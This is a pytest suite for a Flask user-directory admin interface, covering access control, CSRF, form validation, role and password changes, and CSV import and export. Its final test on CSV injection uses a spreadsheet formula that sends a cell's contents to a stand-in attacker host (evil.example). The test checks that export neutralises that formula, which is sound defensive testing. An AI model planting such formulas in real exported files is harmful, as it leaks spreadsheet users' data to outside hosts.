"""The administrator pages for a directory's users, through Flask's test client over a temp data
folder: permissions, the attribute form under SCIM's rules, status, delete, role, password, CSV
import (preview, confirm, tampering) and export."""

from __future__ import annotations

import csv
import io
import re

import pytest

import auth
import store as store_module
from app import create_app
from schemas import CORE_USER_URN, ENTERPRISE_USER_URN, MAPPING_TABLE, mapped_value
from store import (
    DEFAULT_DIRECTORY,
    AdministratorRenamed,
    PreconditionFailed,
    UniquenessError,
    new_id,
)
from tests.test_pages import ADMIN_PASSWORD, add_user, csrf_token, log_in, run_setup, setup_path
from tests.test_store import fail_once

SCHEMAS = [CORE_USER_URN]
COLUMNS = [entra for _label, entra, _path, _mandatory in MAPPING_TABLE] + ["active"]


class Site:
    """After first-run setup: the app, its store, the Default directory and the signed-in
    administrator's client."""

    def __init__(self, app) -> None:
        self.app = app
        self.store = app.extensions["roster.store"]
        self.directory = self.store.find_directory_by_name(DEFAULT_DIRECTORY)
        self.admin = app.test_client()
        self.base = f"/admin/directories/{self.directory['id']}/users"

    def user(self, user_name: str) -> dict | None:
        return self.store.find_user_by_user_name(self.directory["id"], user_name)

    def count(self) -> int:
        return self.store.count_users(self.directory["id"])


@pytest.fixture
def site(tmp_path, capsys):
    app = create_app({"DATA_DIR": str(tmp_path / "data"), "TESTING": True})
    site = Site(app)
    assert run_setup(site.admin, setup_path(capsys.readouterr().err)).status_code == 302
    site.admin_user = site.user("admin@contoso.example")
    yield site
    app.extensions["roster.store"].close()


def post(client, path: str, data: dict | None = None, **options):
    """A form post carrying the client's CSRF token (as every page's forms do)."""
    token = csrf_token(client, "/account")
    return client.post(path, data={"csrf_token": token, **(data or {})}, **options)


def field_error(page: str, name: str) -> str | None:
    """The message shown next to the field ``name``."""
    found = re.search(rf'<p id="{name}-error" class="field-error">([^<]*)</p>', page)
    return found.group(1).replace("&#34;", '"').replace("&#39;", "'") if found else None


def all_attributes(manager: str) -> dict[str, str]:
    """One valid value for each of the 19 rows of the mapping table, by Entra name."""
    return {
        "userPrincipalName": "grace@contoso.example",
        "displayName": "Grace Hopper",
        "givenName": "Grace",
        "surname": "Hopper",
        "mail": "grace.hopper@contoso.example",
        "telephoneNumber": "+1 555 0100",
        "mobile": "+1 555 0199",
        "streetAddress": "1 Navy Yard",
        "city": "Arlington",
        "state": "VA",
        "postalCode": "22202",
        "country": "US",
        "preferredLanguage": "en-US",
        "employeeNumber": "E-1906",
        "costCenter": "CC-42",
        "jobTitle": "Rear Admiral",
        "department": "Computing",
        "manager": manager,
        "objectId": "0a1b2c3d-0000-4000-8000-000000000001",
    }


def upload(site: Site, text: str, filename: str = "users.csv"):
    data = {"file": (io.BytesIO(text.encode("utf-8")), filename)}
    return post(site.admin, f"{site.base}/import", data, content_type="multipart/form-data")


def signed_upload(page: str) -> str:
    return re.search(r'name="upload" value="([^"]+)"', page).group(1)


def csv_text(rows: list[list[str]], header: list[str] | None = None) -> str:
    output = io.StringIO()
    writer = csv.writer(output, lineterminator="\r\n")
    writer.writerow(header or COLUMNS)
    writer.writerows(rows)
    return output.getvalue()


def csv_row(**values: str) -> list[str]:
    return [values.get(column, "") for column in COLUMNS]


# -- permissions --------------------------------------------------------------------------------


def page_paths(site: Site, user_id: str) -> list[str]:
    return [
        site.base,
        f"{site.base}/new",
        f"{site.base}/{user_id}",
        f"{site.base}/{user_id}/delete",
        f"{site.base}/import",
        f"{site.base}/export",
    ]


def test_anonymous_visitors_sign_in_first_users_get_403_administrators_get_the_pages(site):
    ana = add_user(site.store, site.directory, "ana@contoso.example")
    anonymous = site.app.test_client()
    for path in page_paths(site, ana["id"]):
        response = anonymous.get(path)
        assert response.status_code == 302, path
        assert response.headers["Location"].startswith("/login?next=")

    user = site.app.test_client()
    log_in(user, site.directory, "ana@contoso.example")
    for path in page_paths(site, ana["id"]):
        assert user.get(path).status_code == 403, path
    for action in ("new", f"{ana['id']}", f"{ana['id']}/active", f"{ana['id']}/role"):
        assert post(user, f"{site.base}/{action}", {"role": "administrator"}).status_code == 403
    for action in (f"{ana['id']}/password", f"{ana['id']}/delete", "import", "import/confirm"):
        assert post(user, f"{site.base}/{action}").status_code == 403
    assert site.store.account(site.directory["id"], ana["id"])["role"] == "user"

    for path in page_paths(site, ana["id"]):
        assert site.admin.get(path).status_code == 200, path
    assert f'href="{site.base}"' in site.admin.get("/admin").text  # the directories list links here
    assert site.admin.get("/admin/directories/nope/users").status_code == 404
    assert site.admin.get(f"{site.base}/no-such-user").status_code == 404


def test_posts_without_a_csrf_token_are_refused(site):
    ana = add_user(site.store, site.directory, "ana@contoso.example")
    form = {"active": "false"}
    assert site.admin.post(f"{site.base}/{ana['id']}/active", data=form).status_code == 400
    confirm = site.admin.post(f"{site.base}/import/confirm", data={"upload": "x"})
    assert confirm.status_code == 400 and "CSRF token is missing" in confirm.text
    assert site.user("ana@contoso.example").get("active") is not False


# -- list ---------------------------------------------------------------------------------------


def test_the_list_pages_by_50_and_searches(site):
    for number in range(60):
        add_user(
            site.store,
            site.directory,
            f"user{number:02}@contoso.example",
            password=None,
            title="Engineer",
            **{ENTERPRISE_USER_URN: {"department": "Research" if number < 3 else "Sales"}},
        )
    site.store.update_user(
        site.directory["id"],
        site.user("user00@contoso.example")["id"],
        lambda current: {**current, "active": False},
        "test",
    )
    first = site.admin.get(site.base).text
    assert "61 users" in first and "Page 1 of 2" in first
    assert first.count("<tr") == 51  # the header row and 50 users
    assert site.admin.get(f"{site.base}?page=2").text.count("<tr") == 12

    found = site.admin.get(f"{site.base}?q=researc").text
    assert "3 users found" in found
    assert "user00@contoso.example" in found and "user03@contoso.example" not in found
    assert "Engineer" in found and "Research" in found
    assert '<tr class="inactive">' in found and "inactive</span>" in found
    admin_row = site.admin.get(f"{site.base}?q=admin").text
    assert "Administrator" in admin_row


# -- create and edit ----------------------------------------------------------------------------


def test_after_a_failed_fsync_pages_and_scim_answer_writes_with_503_and_the_reason(
    site, monkeypatch
):
    _key, token = auth.create_directory_key(site.store, site.directory["id"], "Test", "test")
    fail_once(monkeypatch, store_module.os, "fsync")
    values = all_attributes(manager="")
    response = post(site.admin, f"{site.base}/new", values)
    assert response.status_code == 503 and "fsync failed" in response.text
    values["userPrincipalName"] = "other@contoso.example"
    response = post(site.admin, f"{site.base}/new", values)
    assert response.status_code == 503 and "until it is restarted" in response.text
    scim = site.app.test_client().post(
        "/v2/Users",
        json={"schemas": [CORE_USER_URN], "userName": "x@contoso.example", "displayName": "X"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert (
        scim.status_code == 503 and "until it is restarted" in scim.get_json(force=True)["detail"]
    )
    assert site.user("other@contoso.example") is None
    read = site.app.test_client().get(
        f"/v2/Users/{site.admin_user['id']}", headers={"Authorization": f"Bearer {token}"}
    )
    assert read.status_code == 200  # reads go on; the key's last use is simply not recorded


def test_a_user_created_with_every_attribute_reads_back_through_scim(site):
    boss = add_user(site.store, site.directory, "boss@contoso.example", password=None)
    values = all_attributes(manager="BOSS@contoso.example")  # by userName, any case
    response = post(site.admin, f"{site.base}/new", values)
    assert response.status_code == 302
    grace = site.user("grace@contoso.example")
    assert response.headers["Location"] == f"{site.base}/{grace['id']}"

    _key, token = auth.create_directory_key(site.store, site.directory["id"], "Test", "test")
    scim = site.app.test_client().get(
        f"/v2/Users/{grace['id']}", headers={"Authorization": f"Bearer {token}"}
    )
    assert scim.status_code == 200
    body = scim.get_json()
    assert body["active"] is True
    for label, entra, path, _mandatory in MAPPING_TABLE:
        value = mapped_value(body, path)
        if entra == "manager":
            assert value["value"] == boss["id"], label
        else:
            assert value == values[entra], label

    edit_page = site.admin.get(f"{site.base}/{grace['id']}").text
    assert 'value="boss@contoso.example"' in edit_page  # the manager shown by userName
    for label, _entra, _path, _mandatory in MAPPING_TABLE:
        assert f">{label}" in edit_page  # one labelled field per row


def test_validation_errors_are_shown_next_to_their_fields_and_nothing_is_stored(site):
    before = site.count()
    values = {
        **all_attributes(manager="nobody@contoso.example"),
        "displayName": "",
        "mail": "not-an-address",
        "mobile": "call me",
        "department": "D" * 201,
    }
    response = post(site.admin, f"{site.base}/new", values)
    assert response.status_code == 400
    page = response.text
    assert field_error(page, "displayName") == "Display name: Missing data for required field."
    assert field_error(page, "mail") == "Mail: not an email address"
    assert field_error(page, "mobile") == "Mobile Phone: only digits, spaces and ./()*#+-_"
    assert field_error(page, "department") == "Department: Longer than maximum length 200."
    assert field_error(page, "manager") == (
        'Manager: no user with user name or id "nobody@contoso.example" in this directory.'
    )
    assert field_error(page, "givenName") is None
    assert 'value="Grace"' in page  # what was typed is kept
    assert site.count() == before

    taken = post(site.admin, f"{site.base}/new", {"userPrincipalName": "ADMIN@contoso.example"})
    assert field_error(taken.text, "userPrincipalName") == (
        'User Name: "ADMIN@contoso.example" is already taken in this directory.'
    )
    assert field_error(taken.text, "displayName")  # both rules at once
    assert site.count() == before


def test_editing_changes_and_clears_attributes_and_refuses_a_stale_form(site):
    ana = add_user(site.store, site.directory, "ana@contoso.example", title="Clerk")
    page = site.admin.get(f"{site.base}/{ana['id']}").text
    version = re.search(r'name="version" value="([^"]+)"', page).group(1).replace("&#34;", '"')
    values = {"userPrincipalName": "ana@contoso.example", "displayName": "Ana", "version": version}
    values["city"] = "Lisbon"
    response = post(site.admin, f"{site.base}/{ana['id']}", values)
    assert response.status_code == 302
    stored = site.user("ana@contoso.example")
    assert "title" not in stored  # an empty field clears its attribute
    assert stored["addresses"] == [{"type": "work", "locality": "Lisbon"}]
    assert mapped_value(stored, 'addresses[type eq "work"].locality') == "Lisbon"

    stale = post(site.admin, f"{site.base}/{ana['id']}", {**values, "city": "Porto"})
    assert stale.status_code == 400 and "since this page was opened" in stale.text
    assert site.user("ana@contoso.example")["addresses"][0]["locality"] == "Lisbon"

    own = post(
        site.admin,
        f"{site.base}/{ana['id']}",
        {**values, "manager": ana["id"], "version": stored["meta"]["version"]},
    )
    assert field_error(own.text, "manager") == "Manager: a user cannot be their own manager."


# -- status, delete, role, password -------------------------------------------------------------


def test_deactivating_a_user_ends_their_session_on_the_next_request(site):
    ana = add_user(site.store, site.directory, "ana@contoso.example")
    browser = site.app.test_client()
    log_in(browser, site.directory, "ana@contoso.example")
    assert browser.get("/").status_code == 200

    response = post(site.admin, f"{site.base}/{ana['id']}/active", {"active": "false"})
    assert response.status_code == 302
    assert site.user("ana@contoso.example")["active"] is False
    refused = browser.get("/")
    assert refused.status_code == 302 and refused.headers["Location"].startswith("/login")
    assert "inactive</span>" in site.admin.get(f"{site.base}/{ana['id']}").text

    post(site.admin, f"{site.base}/{ana['id']}/active", {"active": "true"})
    assert site.user("ana@contoso.example")["active"] is True
    assert log_in(browser, site.directory, "ana@contoso.example").status_code == 302

    own = post(site.admin, f"{site.base}/{site.admin_user['id']}/active", {"active": "false"})
    assert own.status_code == 400 and "cannot deactivate your own account" in own.text
    assert site.admin_user["active"] is True


def test_delete_asks_first_then_deletes(site):
    ana = add_user(site.store, site.directory, "ana@contoso.example")
    add_user(
        site.store,
        site.directory,
        "bo@contoso.example",
        **{ENTERPRISE_USER_URN: {"manager": {"value": ana["id"]}}},
    )
    confirm = site.admin.get(f"{site.base}/{ana['id']}/delete")
    assert "Delete ana@contoso.example?" in confirm.text and "1 person loses" in confirm.text
    assert site.user("ana@contoso.example") is not None

    response = post(site.admin, f"{site.base}/{ana['id']}/delete")
    assert response.status_code == 302 and response.headers["Location"] == site.base
    assert site.user("ana@contoso.example") is None
    assert ENTERPRISE_USER_URN not in site.user("bo@contoso.example")
    assert site.admin.get(f"{site.base}/{ana['id']}").status_code == 404

    own = post(site.admin, f"{site.base}/{site.admin_user['id']}/delete")
    assert own.status_code == 400 and site.user("admin@contoso.example") is not None


def test_role_makes_administrators_but_keeps_the_last_one(site):
    ana = add_user(site.store, site.directory, "ana@contoso.example")
    browser = site.app.test_client()
    log_in(browser, site.directory, "ana@contoso.example")
    assert browser.get(site.base).status_code == 403

    post(site.admin, f"{site.base}/{ana['id']}/role", {"role": "administrator"})
    assert browser.get(site.base).status_code == 200
    stepped_down = post(browser, f"{site.base}/{ana['id']}/role", {"role": "user"})
    assert stepped_down.headers["Location"] == "/"
    assert browser.get(site.base).status_code == 403

    last = post(site.admin, f"{site.base}/{site.admin_user['id']}/role", {"role": "user"})
    assert last.status_code == 400
    assert field_error(last.text, "role") == ("Role: the last administrator cannot become a user.")
    assert site.admin.get(site.base).status_code == 200


def test_an_administrator_renamed_on_these_pages_may_first_sign_in_by_the_new_name(site):
    """Unlike a directory key's rename (tests/test_microsoft_sign_in.py): an administrator
    giving another administrator a new userName vouches for it."""
    ana = add_user(site.store, site.directory, "ana@contoso.example")
    post(site.admin, f"{site.base}/{ana['id']}/role", {"role": "administrator"})
    version = site.user("ana@contoso.example")["meta"]["version"]
    values = {"userPrincipalName": "ana.lima@contoso.example", "displayName": "Ana"}
    renamed = post(site.admin, f"{site.base}/{ana['id']}", {**values, "version": version})
    assert renamed.status_code == 302
    site.store.record_oid(site.directory["id"], ana["id"], "oid-of-ana", "sign-in")

    bea = add_user(site.store, site.directory, "bea@contoso.example")
    post(site.admin, f"{site.base}/{bea['id']}/role", {"role": "administrator"})
    site.store.update_user(
        site.directory["id"],
        bea["id"],
        lambda current: {**current, "userName": "mallory@contoso.example"},
        "a directory key",
    )
    with pytest.raises(AdministratorRenamed):
        site.store.record_oid(site.directory["id"], bea["id"], "oid-of-mallory", "sign-in")


def test_a_password_set_by_an_administrator_signs_the_user_in(site):
    ana = add_user(site.store, site.directory, "ana@contoso.example", password=None)
    path = f"{site.base}/{ana['id']}/password"
    short = post(site.admin, path, {"password": "Ab1!", "password_again": "Ab1!"})
    assert short.status_code == 400
    assert field_error(short.text, "password").startswith("Password: 8 to 64 characters")
    weak = post(site.admin, path, {"password": "lowercase-only", "password_again": "lowercase"})
    assert "use at least three of lowercase letters" in field_error(weak.text, "password")
    differ = post(site.admin, path, {"password": "Fresh-pass-1", "password_again": "Fresh-pass-2"})
    assert field_error(differ.text, "password") == "Password again: the two passwords differ."

    assert post(site.admin, path, {"password": "Fresh-pass-1", "password_again": "Fresh-pass-1"})
    browser = site.app.test_client()
    assert log_in(browser, site.directory, "ana@contoso.example", "Fresh-pass-1").status_code == 302
    assert browser.get("/account").status_code == 200

    # A reset (the password leaked, say) ends the sessions opened with the old one.
    assert post(site.admin, path, {"password": "Fresh-pass-2", "password_again": "Fresh-pass-2"})
    assert browser.get("/account").status_code == 302


def test_an_administrator_who_sets_their_own_password_stays_signed_in(site):
    admin = site.user("admin@contoso.example")
    elsewhere = site.app.test_client()
    assert (
        log_in(elsewhere, site.directory, "admin@contoso.example", ADMIN_PASSWORD).status_code
        == 302
    )
    path = f"{site.base}/{admin['id']}/password"
    response = post(
        site.admin, path, {"password": "Fresh-pass-9", "password_again": "Fresh-pass-9"}
    )
    assert response.status_code == 302
    page = site.admin.get(response.headers["Location"])
    assert page.status_code == 200 and "was set" in page.text  # signed in, flash kept
    assert elsewhere.get("/account").status_code == 302  # their other session ended


# -- CSV import and export ----------------------------------------------------------------------


def import_file(site: Site) -> str:
    """Rows 2-8: a create, an update (matched ignoring case), an unchanged row, a bad mail, a
    repeated userName, a create managed by row 2, and a create managed by the rejected row 5."""
    return csv_text(
        [
            csv_row(
                userPrincipalName="bob@contoso.example",
                displayName="Bob",
                manager="ana@contoso.example",
            ),
            csv_row(userPrincipalName="ANA@contoso.example", displayName="Ana", department="Legal"),
            csv_row(userPrincipalName="cy@contoso.example", displayName="Cy"),
            csv_row(userPrincipalName="dee@contoso.example", displayName="Dee", mail="nope"),
            csv_row(userPrincipalName="BOB@contoso.example", displayName="Bob again"),
            csv_row(
                userPrincipalName="eve@contoso.example",
                displayName="Eve",
                manager="bob@contoso.example",
            ),
            csv_row(
                userPrincipalName="fay@contoso.example",
                displayName="Fay",
                manager="dee@contoso.example",
            ),
        ]
    )


def test_csv_import_previews_creates_updates_and_rejects_then_applies_on_confirm(site):
    ana = add_user(site.store, site.directory, "ana@contoso.example", password=None)
    add_user(site.store, site.directory, "cy@contoso.example", password=None, displayName="Cy")
    site.store.update_user(  # cy's row matches her exactly: unchanged
        site.directory["id"],
        site.user("cy@contoso.example")["id"],
        lambda current: {**current, "displayName": "Cy", "active": True},
        "test",
    )
    before = site.count()
    preview = upload(site, import_file(site))
    assert preview.status_code == 200
    page = preview.text
    assert "2 to create" in page and "1 to update" in page and "1 unchanged" in page
    assert "3 rejected" in page
    assert "<td>5</td><td>mail: not an email address</td>" in page
    assert (
        "<td>6</td><td>userPrincipalName: &#34;BOB@contoso.example&#34; is also on row 2</td>"
        in page
    )
    assert "<td>8</td><td>manager: row 5 is rejected</td>" in page
    # the userName's case changes too: ANA is matched to ana, then takes the file's spelling
    changed = "userPrincipalName, displayName, department"
    assert f"<td>3</td><td>ANA@contoso.example</td><td>{changed}</td>" in page
    assert "Import 3 users, skip 3 rejected rows" in page
    assert site.count() == before  # a preview writes nothing

    confirm = post(site.admin, f"{site.base}/import/confirm", {"upload": signed_upload(page)})
    assert confirm.status_code == 302
    assert site.count() == before + 2
    bob, eve = site.user("bob@contoso.example"), site.user("eve@contoso.example")
    assert bob[ENTERPRISE_USER_URN]["manager"] == {"value": ana["id"]}
    assert eve[ENTERPRISE_USER_URN]["manager"] == {"value": bob["id"]}  # a user of the file
    assert site.user("ana@contoso.example")[ENTERPRISE_USER_URN]["department"] == "Legal"
    assert site.user("dee@contoso.example") is None and site.user("fay@contoso.example") is None
    actions = [e["action"] for e in site.store.list_audit(site.directory["id"])[:3]]
    assert sorted(actions) == ["user.create", "user.create", "user.update"]


def test_a_tampered_or_foreign_upload_is_refused(site):
    page = upload(site, csv_text([csv_row(userPrincipalName="x@contoso.example", displayName="X")]))
    signed = signed_upload(page.text)
    tampered = signed[:-3] + ("AAA" if not signed.endswith("AAA") else "BBB")
    before = site.count()
    response = post(site.admin, f"{site.base}/import/confirm", {"upload": tampered})
    assert response.status_code == 400 and "its data was altered" in response.text

    other = site.store.create_directory("Fabrikam")
    elsewhere = post(
        site.admin, f"/admin/directories/{other['id']}/users/import/confirm", {"upload": signed}
    )
    assert elsewhere.status_code == 400
    assert site.count() == before and site.store.count_users(other["id"]) == 0


def test_a_confirm_after_the_directory_changed_shows_a_new_preview_and_imports_nothing(site):
    page = upload(
        site,
        csv_text(
            [
                csv_row(userPrincipalName="x@contoso.example", displayName="X"),
                csv_row(userPrincipalName="y@contoso.example", displayName="Y"),
            ]
        ),
    )
    add_user(site.store, site.directory, "x@contoso.example", password=None, displayName="X2")
    response = post(site.admin, f"{site.base}/import/confirm", {"upload": signed_upload(page.text)})
    assert response.status_code == 409
    assert "The directory changed since the preview" in response.text
    assert "1 to create" in response.text and "1 to update" in response.text
    assert site.user("y@contoso.example") is None
    again = post(
        site.admin, f"{site.base}/import/confirm", {"upload": signed_upload(response.text)}
    )
    assert again.status_code == 302 and site.user("y@contoso.example") is not None
    assert site.user("x@contoso.example")["displayName"] == "X"


def test_the_store_imports_a_batch_whole_or_not_at_all(site):
    """The confirm's single write: one refused user leaves every other one unwritten."""
    directory_id = site.directory["id"]
    ana = add_user(site.store, site.directory, "ana@contoso.example", password=None)
    first = {"schemas": SCHEMAS, "id": new_id(), "userName": "new@contoso.example"}
    taken = {"schemas": SCHEMAS, "id": new_id(), "userName": "ANA@contoso.example"}
    before = site.count()
    with pytest.raises(UniquenessError):
        site.store.import_users(directory_id, [first, taken], [], "test")
    stale = (ana["id"], 'W/"stale"', {**ana, "displayName": "Ana"})
    with pytest.raises(PreconditionFailed):
        site.store.import_users(directory_id, [first], [stale], "test")
    assert site.count() == before and site.user("new@contoso.example") is None

    managed = {**first, ENTERPRISE_USER_URN: {"manager": {"value": taken["id"]}}}
    renamed = {**taken, "userName": "ana.new@contoso.example"}
    site.store.import_users(directory_id, [managed, renamed], [], "test")
    assert (
        site.user("new@contoso.example")[ENTERPRISE_USER_URN]["manager"]["value"]
        == (site.user("ana.new@contoso.example")["id"])
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("userPrincipalName,nickname\r\na,b\r\n", "Unknown column &#39;nickname&#39;"),
        ("displayName\r\nA\r\n", "must have a userPrincipalName column"),
        ("", "The file is empty"),
        ("userPrincipalName\r\n" + "u@x.example\r\n" * 10_001, "more than 10,000 rows"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_whole(site, text, message):
    response = upload(site, text)
    assert response.status_code == 400 and message in response.text


def test_uploads_over_one_mebibyte_are_refused(site):
    response = upload(site, "userPrincipalName\r\n" + "x" * (1024 * 1024))
    assert response.status_code == 413 and "larger than 1 MiB" in response.text


def test_export_round_trips_what_was_imported(site):
    boss = dict(all_attributes(manager=""), userPrincipalName="boss@contoso.example")
    rows = [
        csv_row(**boss, active="true"),
        csv_row(
            **{**all_attributes(manager="boss@contoso.example"), "city": 'Zürich, "Altstadt"'},
            active="false",
        ),
        csv_row(userPrincipalName="min@contoso.example", displayName="Min", active="true"),
    ]
    page = upload(site, csv_text(rows))
    assert post(site.admin, f"{site.base}/import/confirm", {"upload": signed_upload(page.text)})

    export = site.admin.get(f"{site.base}/export")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    assert export.headers["Content-Disposition"] == 'attachment; filename="Default-users.csv"'
    exported = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"), newline="")))
    assert exported[0] == COLUMNS
    by_name = {row[0]: row for row in exported[1:]}
    assert set(by_name) == {"admin@contoso.example", *(row[0] for row in rows)}
    phones = [COLUMNS.index("telephoneNumber"), COLUMNS.index("mobile")]
    for row in rows:
        quoted = [f"'{cell}" if i in phones and cell else cell for i, cell in enumerate(row)]
        assert by_name[row[0]] == quoted  # "+1 555 0100" is exported as "'+1 555 0100"

    again = upload(site, export.data.decode("utf-8-sig"))
    assert (
        "0 to create" in again.text and "0 to update" in again.text and "4 unchanged" in again.text
    )


def test_export_then_import_changes_nothing_that_scim_stored(site):
    """SCIM keeps spaces at a value's ends, and a user may have no "active" at all."""
    padded = {"title": " padded ", "name": {"givenName": " =lead"}, "displayName": " Ana"}
    add_user(site.store, site.directory, "ana@contoso.example", None, **padded)
    add_user(site.store, site.directory, "bo@contoso.example", None, active=False)
    before = {u: site.user(u) for u in ("ana@contoso.example", "bo@contoso.example")}
    assert "active" not in before["ana@contoso.example"]

    export = site.admin.get(f"{site.base}/export").data.decode("utf-8-sig")
    page = upload(site, export)
    assert "0 to create" in page.text and "0 to update" in page.text, page.text
    assert "3 unchanged" in page.text  # and the administrator: nothing to confirm
    assert {u: site.user(u) for u in before} == before

    # Trimming still helps a file written by hand: a new value has its spaces taken off.
    row = csv_row(userPrincipalName="cy@contoso.example ", displayName=" Cy ")
    page = upload(site, csv_text([row]))
    assert post(site.admin, f"{site.base}/import/confirm", {"upload": signed_upload(page.text)})
    assert site.user("cy@contoso.example")["displayName"] == "Cy"


def test_export_quotes_what_a_spreadsheet_would_run_and_import_takes_the_quote_off(site):
    """CSV injection: a cell that starts with = + - @ is a formula to a spreadsheet program."""
    risky = {
        "jobTitle": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "department": "@SUM(1+1)",
        "city": "-Zug",
        "displayName": "'Tis Grace",  # starts with the quote itself: one more is added
        "telephoneNumber": "+41 44 555 0100",
    }
    rows = [csv_row(**{**all_attributes(manager=""), **risky}, active="true")]
    page = upload(site, csv_text(rows))
    assert post(site.admin, f"{site.base}/import/confirm", {"upload": signed_upload(page.text)})
    stored = site.user("grace@contoso.example")
    assert stored["title"] == risky["jobTitle"] and stored["displayName"] == "'Tis Grace"

    export = site.admin.get(f"{site.base}/export")
    exported = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"), newline="")))
    grace = next(row for row in exported if row[0] == "grace@contoso.example")
    for name, value in risky.items():
        assert grace[COLUMNS.index(name)] == "'" + value
    assert grace[COLUMNS.index("givenName")] == "Grace"  # nothing risky: left as it is

    again = upload(site, export.data.decode("utf-8-sig"))
    assert "0 to update" in again.text and "2 unchanged" in again.text

    # A quote typed by hand in front of anything else is kept: it is part of the value.
    hand_made = csv_row(userPrincipalName="q@contoso.example", displayName="'quoted'")
    page = upload(site, csv_text([hand_made]))
    assert post(site.admin, f"{site.base}/import/confirm", {"upload": signed_upload(page.text)})
    assert site.user("q@contoso.example")["displayName"] == "'quoted'"
